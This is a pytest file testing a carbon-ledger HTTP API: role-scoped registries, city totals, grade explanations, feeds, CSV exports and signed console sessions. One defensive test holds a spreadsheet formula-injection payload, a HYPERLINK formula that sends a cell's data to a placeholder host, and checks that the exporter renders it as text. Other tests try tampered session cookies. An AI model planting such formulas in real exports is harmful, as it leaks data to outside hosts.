"""The read side every role needs, over HTTP on both backends: registries, breakdowns and
series by period, explanations, feeds, CSV, `as_of`, and who may read what."""

import csv
import io
import time
from collections import Counter

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from ledger.domain.personal import period_reduction
from projections.runner import Projector
from tests.http_support import bearer, console_cookie
from tests.support import accounts_with, integrate_all, load_city, register
from tools.demo import dispute_some
from tools.report import write_report

CITY = {"seed": 11, "banks": 3, "persons": 40, "enterprises": 12, "farms": 6}


@pytest.fixture
def city(node):
    plan = load_city(node, **CITY)
    assert dispute_some(node, CITY["seed"]) == []
    Projector(node.store).catch_up()
    return plan


@pytest.fixture
def http(node, city):
    with TestClient(create_app(node)) as client:
        yield client


def get(http, path, headers=None, status=200):
    response = http.get(path, headers=headers or {})
    assert response.status_code == status, response.text
    return response.json() if status == 200 else response


def every_page(http, path, headers, limit=5):
    """All items of a paginated list, following `next_cursor`."""
    items, cursor = [], None
    while True:
        sep = "&" if "?" in path else "?"
        page = get(
            http, f"{path}{sep}limit={limit}" + (f"&cursor={cursor}" if cursor else ""), headers
        )
        items += page["items"]
        cursor = page["next_cursor"]
        if cursor is None:
            return items


def registered(node, prefix):
    """(account, registration data) of every enterprise or farm, from the write side."""
    found = {}
    for account in node.log.accounts(prefix):
        state = node.ledger.accounts.get(account).state
        found[account] = state
    return found


def test_registries_filter_paginate_and_are_scoped(node, http):
    regulator = bearer(node, "regulator")
    firms = registered(node, "ind:")
    listed = every_page(http, "/v1/enterprises", regulator)
    assert [f["account"] for f in listed] == sorted(firms)
    district = firms[sorted(firms)[0]].registered["district"]
    in_district = every_page(http, f"/v1/enterprises?district={district}", regulator)
    assert {f["account"] for f in in_district} == {
        a for a, s in firms.items() if s.registered["district"] == district
    }
    graded = every_page(http, "/v1/enterprises?period=2026-Q3", regulator)
    colours = Counter(f["grade"] for f in graded if f["grade"])
    colour, count = colours.most_common(1)[0]
    coloured = every_page(http, f"/v1/enterprises?period=2026-Q3&grade={colour}", regulator)
    assert len(coloured) == count and {f["grade"] for f in coloured} == {colour}
    get(http, "/v1/enterprises?grade=red", regulator, status=422)  # a grade needs its period
    farms = every_page(http, "/v1/farms?kind=pig", bearer(node, "bank:bank01"))
    assert farms and {f["kind"] for f in farms} == {"pig"}
    owner = sorted(firms)[0]
    get(http, "/v1/enterprises", bearer(node, f"ent:{owner[4:]}"), status=404)
    get(http, "/v1/enterprises", status=401)

    mine = every_page(http, "/v1/banks/bank01/accounts", bearer(node, "bank:bank01"))
    assert mine and all(a["account"].startswith("per:bank01:") for a in mine)
    assert len(mine) == len(accounts_with(node, "per:bank01:"))
    get(http, "/v1/banks/bank02/accounts", bearer(node, "bank:bank01"), status=404)
    assert len(every_page(http, "/v1/banks/bank02/accounts", regulator)) == len(
        accounts_with(node, "per:bank02:")
    )


def test_disputes_are_listed_open_and_decided_and_scoped(node, http):
    regulator = bearer(node, "regulator")
    listed = every_page(http, "/v1/disputes", regulator, limit=2)
    assert len(listed) == 3 and {d["outcome"] for d in listed} == {"upheld", "rejected"}
    assert all(d["evidence"] and d["decided_at"] for d in listed)
    assert every_page(http, "/v1/disputes?status=open", regulator) == []
    own = listed[0]["account"]
    principal = ("ent:" if own.startswith("ind:") else "farm:") + own.split(":", 1)[1]
    assert [d["account"] for d in every_page(http, "/v1/disputes", bearer(node, principal))] == [
        own
    ]
    get(http, "/v1/disputes", bearer(node, "bank:bank01"), status=404)


def test_city_totals_honour_the_period_for_every_part_and_say_as_of(node, http):
    totals = get(http, "/v1/city/totals")
    assert "banks" not in totals["personal"]
    stated = totals["as_of"]
    assert (
        stated["log_size"] == node.reader.size()
        and stated["checkpoint"]["size"] >= stated["log_size"]
        and stated["ahead_of_log"] is False
    )
    # an entry the read models fold before the log holds it: the figures say so
    register(node, "bank.ahead", ["bank"])
    Projector(node.store).catch_up()
    ahead = get(http, "/v1/city/totals")["as_of"]
    assert ahead["ahead_of_log"] is True and ahead["log_size"] == stated["log_size"]
    integrate_all(node)
    assert get(http, "/v1/city/totals")["as_of"]["ahead_of_log"] is False
    assert stated["checkpoint"]["note"].startswith(node.origin)
    months = {}
    for month in ("2026-08", "2026-09", "2026-10"):
        months[month] = get(http, f"/v1/city/totals?period={month}")["personal"]
    quarter = get(http, "/v1/city/totals?period=2026-Q3")["personal"]
    q4 = get(http, "/v1/city/totals?period=2026-Q4")["personal"]
    assert quarter["co2e_g"] == months["2026-08"]["co2e_g"] + months["2026-09"]["co2e_g"]
    assert q4["co2e_g"] == months["2026-10"]["co2e_g"] > 0
    every = {a: node.ledger.accounts.get(a).state for a in accounts_with(node, "per:")}
    assert quarter["co2e_g"] == sum(period_reduction(s, "2026-Q3")[0] for s in every.values())
    assert quarter["co2e_t"] == f"{quarter['co2e_g'] / 1e6:.6f}"
    assert get(http, "/v1/city/totals?period=2026")["industrial"][0]["co2e_g"] > 0
    own = get(http, "/v1/city/totals", bearer(node, "bank:bank02"))["personal"]["banks"]
    assert list(own) == ["bank02"]
    every_bank = get(http, "/v1/city/totals", bearer(node, "regulator"))["personal"]["banks"]
    assert set(every_bank) == {"bank01", "bank02", "bank03", "citybus"}  # and the city platform
    get(http, "/v1/city/totals?period=2026-13", status=422)


def test_breakdowns_by_district_are_public_by_industry_for_the_regulator(node, http):
    by_district = get(http, "/v1/city/breakdown?by=district&period=2026-Q3")
    city = get(http, "/v1/city/totals?period=2026-Q3")
    assert sum(r["co2e_g"] for r in by_district["industrial"]) == city["industrial"][0]["co2e_g"]
    assert (
        sum(r["reduction_g"] for r in by_district["agricultural"])
        == (city["agricultural"][0]["reduction_g"])
    )
    get(http, "/v1/city/breakdown?by=industry", status=404)
    by_industry = get(
        http, "/v1/city/breakdown?by=industry&period=2026-Q3", bearer(node, "regulator")
    )
    assert {r["industry"] for r in by_industry["industrial"]} <= {
        "C26",
        "C30",
        "C31",
        "C22",
        "C25",
        "D44",
    }
    grades = by_industry["grades"]["industrial"]["2026-Q3"]
    assert sum(sum(g.values()) for g in grades.values()) == sum(
        sum(g.values()) for g in city["grades"]["industrial"]["2026-Q3"].values()
    )


def test_series_for_the_city_an_account_and_a_person(node, http, city):
    series = get(http, "/v1/city/series?granularity=month")
    months = [row["period"] for row in series["personal"]]
    assert months == sorted(months) and "2026-10" in months
    quarters = get(http, "/v1/city/series")["industrial"]
    assert {q["period"] for q in quarters} >= {"2025-Q3", "2026-Q3"}
    firm = next(op.account for op in city.operations if op.type == "OutputValueReported")
    regulator = bearer(node, "regulator")
    rows = get(http, f"/v1/accounts/{firm}/series", regulator)["series"]
    state = node.ledger.accounts.get(firm).state
    for row in rows:
        figures = state.figures(row["period"])
        if figures:
            assert (row["co2e_g"], row["value_fen"]) == figures[:2]
            assert row["intensity_g_per_yuan"] is not None
    lender = bearer(node, "bank:bank03")  # a bank reads the totals it lends against
    assert get(http, f"/v1/accounts/{firm}/series", lender)["series"] == rows
    twice = Counter(a.split(":")[2] for a in accounts_with(node, "per:"))
    pid = next(p for p, n in twice.items() if n > 1)
    banks = [a.split(":")[1] for a in accounts_with(node, "per:") if a.endswith(pid)]
    one_bank = bearer(node, f"bank:{banks[0]}")
    person = get(http, f"/v1/persons/{pid}", one_bank)
    assert person["banks"] == [banks[0]] and person["accounts"] == len(banks)
    states = [node.ledger.accounts.get(f"per:{b}:{pid}").state for b in banks]
    assert person["co2e_g"] == sum(s.co2e_g for s in states)
    by_month = get(http, f"/v1/persons/{pid}/series", one_bank)["series"]
    assert sum(r["co2e_g"] for r in by_month) == person["co2e_g"]
    stranger = next(b for b in ("bank01", "bank02", "bank03") if b not in banks)
    get(http, f"/v1/persons/{pid}", bearer(node, f"bank:{stranger}"), status=404)
    get(http, f"/v1/persons/{pid}/series", bearer(node, f"bank:{stranger}"), status=404)
    summary = get(http, f"/v1/persons/{pid}/summary?period=2026", one_bank)["summary"]
    assert f"pid {pid}\n" in summary and f"\nscope bank:{banks[0]}\n" in summary
    assert all(f"per:{other}:" not in summary for other in banks[1:])  # no other bank named
    everyone = get(http, f"/v1/persons/{pid}/summary?period=2026", bearer(node, "regulator"))
    assert summary.split("\nscope ")[0] == everyone["summary"].split("\naccount ")[0]  # same sums
    get(http, f"/v1/persons/{pid}/summary?period=2026&history=true", one_bank, status=403)
    get(
        http, f"/v1/persons/{pid}/summary?period=2026", bearer(node, f"bank:{stranger}"), status=404
    )


def test_a_grade_is_explained_and_entries_are_decoded(node, http):
    regulator = bearer(node, "regulator")
    firm = next(
        a for a in node.log.accounts("ind:") if node.ledger.accounts.get(a).state.latest_grade
    )
    [grade] = [
        g
        for g in get(http, f"/v1/accounts/{firm}/grades", regulator)["grades"]
        if g["period"] == "2026-Q3"
    ][-1:]
    explained, data = grade["explanation"], grade["data"]
    numerator, denominator = map(int, explained["k"]["fraction"].split("/"))
    assert numerator * data["value_fen"] * data["industry_co2e_g"] == (
        denominator * data["co2e_g"] * data["industry_value_fen"]
    )
    assert explained["grade"] == data["grade"] and explained["band"]["grade"]
    assert explained["vertical"]["step"] in ("improved", "worsened", "none")
    sources = {row["source"]: row for row in explained["breakdown"]}
    assert "output_value" in sources and any(s.startswith("energy:") for s in sources)
    assert sum(r.get("co2e_g", 0) for r in sources.values()) == data["co2e_g"]
    lent = get(http, f"/v1/accounts/{firm}/grades", bearer(node, "bank:bank01"))["grades"][-1]
    assert lent["disputes"] == []  # a dispute's reason and evidence are not the lender's
    exchange = bearer(node, "exchange:x1")
    get(http, f"/v1/accounts/{firm}/grades", exchange, status=404)  # an exchange trades farms
    get(http, "/v1/enterprises", exchange, status=404)
    assert get(http, "/v1/farms", exchange)["items"]
    industry = node.ledger.accounts.get(firm).state.registered["industry"]
    path = f"/v1/industries/{industry}/benchmark?period=2026-Q3"
    assert get(http, path, bearer(node, f"ent:{firm[4:]}"))["enterprises"] >= 1
    get(http, path, bearer(node, "bank:bank01"), status=404)
    assert "breakdown" not in lent["explanation"] and lent["explanation"]["k"] == explained["k"]
    farm = next(
        a for a in node.log.accounts("agr:") if node.ledger.accounts.get(a).state.latest_grade
    )
    farm_grade = get(http, f"/v1/accounts/{farm}/grades", regulator)["grades"][0]
    assert farm_grade["explanation"]["thresholds_percent"]["dark_green"] > 0
    entries = get(http, f"/v1/accounts/{firm}/entries", regulator)["entries"]
    assert entries[0]["type"] == "EnterpriseRegistered" and entries[0]["data"]["industry"]
    assert all({"data", "key", "at", "effect", "entry"} <= set(e) for e in entries)


def test_feeds_tell_each_principal_what_changed(node, http):
    bank = every_page(http, "/v1/feed", bearer(node, "bank:bank01"), limit=50)
    assert bank and {i["account"].split(":")[1] for i in bank} == {"bank01"}
    assert {"account_opened", "points_issued"} <= {i["kind"] for i in bank}
    positions = [i["position"] for i in bank]
    assert positions == sorted(set(positions))
    disputed = every_page(http, "/v1/disputes", bearer(node, "regulator"))[0]["account"]
    principal = ("ent:" if disputed.startswith("ind:") else "farm:") + disputed.split(":", 1)[1]
    own = every_page(http, "/v1/feed", bearer(node, principal))
    kinds = [i["kind"] for i in own]
    assert (
        kinds.index("grade_assigned")
        < kinds.index("dispute_filed")
        < kinds.index("dispute_decided")
    )
    assert {i["account"] for i in own} == {disputed}
    first = next(i for i in own if i["kind"] == "grade_assigned")
    assert "previous_grade" in first["data"]
    assert every_page(http, f"/v1/accounts/{disputed}/feed", bearer(node, principal)) == own
    get(http, f"/v1/accounts/{disputed}/feed", bearer(node, "bank:bank01"), status=404)
    rest = get(http, f"/v1/feed?cursor={positions[-1]}", bearer(node, "bank:bank01"))
    assert rest["items"] == [] and rest["next_cursor"] is None


def test_lists_and_series_download_as_csv(node, http):
    regulator = bearer(node, "regulator")
    response = http.get("/v1/enterprises?format=csv&limit=1000", headers=regulator)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())
    assert int(response.headers["Carbon-Ledger-Log-Size"]) == node.reader.size()
    assert response.headers["Carbon-Ledger-Ahead-Of-Log"] == "false"
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert list(rows[0]) == ["account", "name", "industry", "district", "grade"]
    assert len(rows) == len(node.log.accounts("ind:"))
    green = http.get("/v1/agri/green-list?period=2026-Q3&format=csv")
    assert green.status_code == 200 and green.content.decode("utf-8-sig").startswith("account,name")
    series = http.get("/v1/city/series?format=csv&granularity=year")
    lines = series.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("part,period") and len(lines) > 2
    assert http.get("/v1/city/series?format=xml").status_code == 400


def test_the_regulators_report_reflects_one_checkpoint(node, http, tmp_path):
    stated = write_report(node, "2026-Q3", tmp_path)
    assert stated == get(http, "/v1/city/totals?period=2026-Q3")["as_of"]
    summary = (tmp_path / "summary.md").read_text()
    assert (
        f"As of log size {stated['log_size']}" in summary
        and stated["checkpoint"]["note"] in summary
    )
    by_district = list(
        csv.DictReader(
            io.StringIO((tmp_path / "industrial-by-district.csv").read_text("utf-8-sig"))
        )
    )
    api = get(http, "/v1/city/breakdown?by=district&period=2026-Q3")["industrial"]
    assert [(r["district"], int(r["co2e_g"])) for r in by_district] == [
        (r["district"], r["co2e_g"]) for r in api
    ]
    green = (tmp_path / "green-list.csv").read_text("utf-8-sig").splitlines()
    assert green[0] == "account,name,kind,district,grade,change"
    listed = get(http, "/v1/agri/green-list?period=2026-Q3")["farms"]
    assert len(green) - 1 == len(listed)  # nobody was listed the quarter before: none dropped
    assert len((tmp_path / "enterprises.csv").read_text().splitlines()) == 1 + len(
        node.log.accounts("ind:")
    )


def test_csv_cells_that_a_spreadsheet_would_run_stay_text():
    from projections.exports import csv_bytes

    rows = [{"reason": '=HYPERLINK("http://x/?"&A2,"ok")', "n": -5, "name": "@SUM(A1)"}]
    text = csv_bytes(rows, ("reason", "n", "name")).decode("utf-8-sig")
    assert text.splitlines()[1] == '"\'=HYPERLINK(""http://x/?""&A2,""ok"")",-5,\'@SUM(A1)'
    decimals = [{"t": "-1.500000", "y": "-2", "f": "-1+1", "g": "-1.5e3"}]
    line = csv_bytes(decimals, ("t", "y", "f", "g")).decode("utf-8-sig").splitlines()[1]
    assert line == "-1.500000,-2,'-1+1,'-1.5e3"  # decimal strings stay numbers, the rest text


def test_console_downloads_and_sign_in_hold_the_pages_rules(node, http, monkeypatch):
    import dataclasses

    from api.console.render import HEADERS

    for name, principal in (("enterprises.csv", "regulator"), ("accounts.csv", "bank:bank01")):
        response = http.get(f"/console/download/{name}", headers=session(node, principal))
        assert response.status_code == 200, name
        for header, value in HEADERS.items():  # no-store: not left in a shared PC's cache
            assert response.headers[header] == value, (name, header)
    form = {"token": node.tokens.create("regulator")[1]}
    assert http.post("/console/sign-in", data=form, follow_redirects=False).status_code == 403
    same = {"Origin": "http://testserver"}
    plain = http.post("/console/sign-in", data=form, headers=same, follow_redirects=False)
    assert plain.status_code == 303 and "secure" not in plain.headers["set-cookie"].lower()
    monkeypatch.setattr(node, "settings", dataclasses.replace(node.settings, production=True))
    behind_tls = http.post("/console/sign-in", data=form, headers=same, follow_redirects=False)
    assert "secure" in behind_tls.headers["set-cookie"].lower()


def test_a_console_session_is_a_signed_expiring_cookie_not_the_token(node, http):
    token = node.tokens.create("regulator")[1]
    signed_in = http.post(
        "/console/sign-in",
        data={"token": token},
        headers={"Origin": "http://testserver"},
        follow_redirects=False,
    )
    cookie = signed_in.cookies["cl_session"]
    assert token not in signed_in.headers["set-cookie"]  # a copied cookie is no API token
    as_bearer = http.get("/v1/enterprises", headers={"Authorization": f"Bearer {cookie}"})
    assert as_bearer.status_code == 401

    def page(value):
        return http.get(
            "/console/regulator", headers={"Cookie": f"cl_session={value}"}, follow_redirects=False
        )

    assert page(cookie).status_code == 200
    token_id, ends, mac = cookie.split(".")
    assert int(ends) - time.time() > 7 * 3600
    tampered = f"{token_id}.{int(ends) + 3600}.{mac}"  # a longer session than was signed
    ended = console_cookie(node, token, ends=int(time.time()) - 1)
    for value in (tampered, ended, "", "x" * 500, f"{token_id}.{ends}", f"{token_id}.x.{mac}"):
        assert page(value).status_code == 303, value  # to sign in
    node.tokens.revoke(token_id)
    assert page(cookie).status_code == 303  # revoking the token ends the session


def test_console_pages_say_what_their_figures_are_as_of(node, http):
    size = node.reader.size()
    for path, principal in (
        ("/console/regulator", "regulator"),
        ("/console/bank", "bank:bank01"),
        ("/console/exchange", "exchange:cex"),
    ):
        page = http.get(f"{path}?lang=en", headers=session(node, principal))
        assert page.status_code == 200, path
        assert f"Figures as of log size {size} · signed checkpoint" in page.text, path
        assert "not yet in the log" not in page.text
    register(node, "bank.ahead", ["bank"])
    Projector(node.store).catch_up()
    page = http.get("/console/regulator?lang=en", headers=session(node, "regulator"))
    assert "includes entries not yet in the log" in page.text


def session(node, principal):
    """The headers of a console session of a new token of `principal`."""
    return {"Cookie": f"cl_session={console_cookie(node, node.tokens.create(principal)[1])}"}


def test_a_bank_console_never_looks_up_or_shows_what_is_not_a_pseudonym(node, http):
    national_id = "33080219900101123X"
    page = http.get(f"/console/bank?pid={national_id}", headers=session(node, "bank:bank01"))
    assert page.status_code == 200 and national_id not in page.text
    assert 'pattern="[a-z2-7]{52}"' in page.text  # the browser will not send one either


def test_a_farm_whose_code_holds_a_colon_gets_only_its_own_feed():
    from projections.fold import owner_of

    assert owner_of("agr:grain-0000:east") == "farm:grain-0000:east"
    assert owner_of("agr:grain-0000") == "farm:grain-0000"
    assert owner_of("per:bank01:abc") == "bank:bank01"
